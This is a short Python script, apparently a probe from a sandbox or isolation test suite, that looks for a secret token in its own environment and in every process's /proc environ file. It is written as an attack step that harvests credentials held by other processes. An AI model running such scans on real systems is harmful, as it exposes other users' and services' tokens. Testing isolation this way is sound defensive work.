# Tries: to find a token in an environment: its own, its parent's, anyone's.
import glob
from attack import *
look_for_secret("os.environ", repr(dict(os.environ)).encode())
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/task/*/environ") + ["/proc/self/environ"]:
    try:
        look_for_secret(path, read(path, 1 << 20))
    except OSError as e:
        held(path, repr(e))
